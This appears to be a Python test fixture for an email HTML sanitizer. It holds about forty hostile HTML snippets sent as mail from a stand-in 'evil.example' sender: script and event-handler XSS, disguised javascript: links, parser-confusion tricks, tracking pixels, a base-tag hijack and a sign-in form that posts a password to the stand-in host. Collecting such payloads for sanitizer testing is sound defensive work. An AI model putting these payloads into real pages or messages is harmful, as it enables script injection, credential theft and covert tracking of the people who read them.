"""Thirty-odd mails that want to act where they are read, written for the tests: each tries one way in.

`EVIL` is where they would like to be heard of; nothing may ever be asked of it.
"""

# ruff: noqa: E501
from __future__ import annotations

from email.message import EmailMessage

EVIL = "https://evil.example"
HOSTILE: dict[str, str] = {
    "a script": "<p>Hi</p><script>alert(1)</script>",
    "a script from elsewhere": f'<script src="{EVIL}/x.js"></script>',
    "a script in two": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "an event": "<img src=x onerror=alert(1)>",
    "an event without quotes or blanks": "<svg/onload=alert(1)>",
    "an event of a body": "<body onload=alert(1) onpageshow=alert(1)>hello</body>",
    "an event that focus starts": "<input autofocus onfocus=alert(1)><select autofocus onfocus=alert(1)>",
    "an event of a details": "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "an event of a marquee": "<marquee onstart=alert(1)>x</marquee>",
    "an event of sound": f'<audio src="{EVIL}/a" autoplay onerror=alert(1)></audio><video><source onerror=alert(1)></video>',
    "a link that runs": '<a href="javascript:alert(1)">click</a>',
    "a link that runs, disguised": '<a href="&#106;ava&Tab;script&colon;alert(1)">a</a><a href=" \x01javascript:alert(1)">b</a>',
    "a link with data": '<a href="data:text/html,<script>alert(1)</script>">click</a>',
    "a link of an area": '<img usemap="#m"><map name="m"><area shape="default" href="javascript:alert(1)"></map>',
    "a frame": f'<iframe src="{EVIL}/f"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "an object": f'<object data="{EVIL}/o"></object><embed src="javascript:alert(1)"><applet code="x"></applet>',
    "a form": f'<form action="{EVIL}/steal"><input name="password"><button formaction="javascript:alert(1)">Sign in</button></form>',
    "a refresh": f'<meta http-equiv="refresh" content="0;url={EVIL}/r"><meta http-equiv="set-cookie" content="a=b">',
    "a base": f'<base href="{EVIL}/"><a href="settings">settings</a><img src="logo.png">',
    "a style sheet": f'<link rel="stylesheet" href="{EVIL}/s.css"><style>@import "{EVIL}/i.css";body{{display:none}}</style>',
    "a style": f'<div style="position:fixed;inset:0;background:url({EVIL}/b)">all over</div><p style="width:expression(alert(1))">x</p>',
    "a picture that counts readers": f'<img src="{EVIL}/pixel.gif" width="1" height="1"><img srcset="{EVIL}/2x.png 2x" src="{EVIL}/1x">',
    "pictures by other names": f'<table background="{EVIL}/t"><tr><td background="{EVIL}/d">x</td></tr></table><picture><source srcset="{EVIL}/p"></picture><video poster="{EVIL}/v"></video><input type="image" src="{EVIL}/n">',
    "a picture of ours": '<img src="/sign-out"><img src="//evil.example/y"><img src="cid:nobody"><img src="file:///etc/passwd">',
    "a drawing": f'<svg><a xlink:href="javascript:alert(1)"><text>x</text></a><use href="{EVIL}/u#x"/><image href="{EVIL}/i"/><animate onbegin=alert(1) attributeName=x dur=1s></svg>',
    "a foreign object": '<svg><foreignObject><iframe onload=alert(1)></iframe></foreignObject></svg>',
    "formulas that change what is read": "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "an unread part that is read": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">x</noscript>',
    "raw text that ends early": '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea><xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
    "a title that ends early": '<title><a title="</title><img src=x onerror=alert(1)>">x</a></title>',
    "a comment that ends early": "<!--><img src=x onerror=alert(1)>--><![CDATA[<img src=x onerror=alert(1)>]]><!-- --!><img src=x onerror=alert(1)> -->",
    "a condition": "<!--[if gte IE 4]><script>alert(1)</script><![endif]--><![if !mso]><script>alert(1)</script><![endif]>",
    "names that hide the page's own": '<p id="content">x</p><form name="body"></form><img name="getElementById" id="pop"><a id="box">y</a>',
    "attributes of the page's scripts": f'<p data-live="desk" data-src="{EVIL}/l" hx-get="{EVIL}/h" hx-trigger="load" hx-on:click="alert(1)" data-key="r">x</p><a data-open="ring" class="button main" hx-post="/ring" href="http://x.example">press</a>',
    "words that look like pictures": '<p>&lt;img src=x onerror=alert(1)&gt;</p><img alt="&quot;><script>alert(1)</script>" src="x">',
    "a template": "<template><img src=x onerror=alert(1)></template><slot onslotchange=alert(1)></slot><x-tag onclick=alert(1)>x</x-tag>",
    "a dialog over all": "<dialog open><h1>Your session is over</h1><p popover>Sign in again</p></dialog>",
    "a null and odd letters": "<scr\x00ipt>alert(1)</scr\x00ipt><img src=x\x00 onerror\x00=alert(1)><ſcript>alert(1)</ſcript>",
    "a tag that never ends": '<img src="x" onerror="alert(1)" <p><a href="x',
}  # fmt: skip


def mail(name: str, markup: str) -> bytes:
    """As it would come."""
    written = EmailMessage()
    written["From"], written["To"], written["Subject"] = "Mallory <mallory@evil.example>", "hello@shop.example", name
    written["Message-ID"] = f"<{name.replace(' ', '-')}@evil.example>"
    written.set_content("plain")
    written.add_alternative(markup, subtype="html", cte="base64")
    return written.as_bytes()
